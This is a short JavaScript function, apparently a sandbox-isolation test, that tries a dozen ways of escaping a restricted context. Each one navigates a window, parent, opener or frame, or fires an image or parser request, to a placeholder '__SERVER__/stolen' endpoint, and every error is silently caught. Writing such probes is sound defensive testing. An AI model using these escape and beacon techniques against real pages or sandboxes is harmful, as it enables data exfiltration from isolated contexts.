// Looks for a document, a window, a parent, an opener, and a page to navigate.
// says: Keeps 10 in flight: a window of 10.
function attempt() {
  const ways = [
    () => document.body.append("stolen"),
    () => (window.location = "__SERVER__/stolen?window"),
    () => (parent.location = "__SERVER__/stolen?parent"),
    () => (top.location = "__SERVER__/stolen?top"),
    () => (opener.location = "__SERVER__/stolen?opener"),
    () => frames[0].postMessage("stolen", "*"),
    () => open("__SERVER__/stolen?open"),
    () => clients.openWindow("__SERVER__/stolen?clients"),
    () => (new Image().src = "__SERVER__/stolen?image"),
    () => new DOMParser().parseFromString("<img src='__SERVER__/stolen?parser'>", "text/html"),
    () => parent.inflight.run({ endpoint: "__SERVER__/stolen?{id}" }),
    () => new Function("return this")().inflight.run({}),
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // not there
    }
  }
}
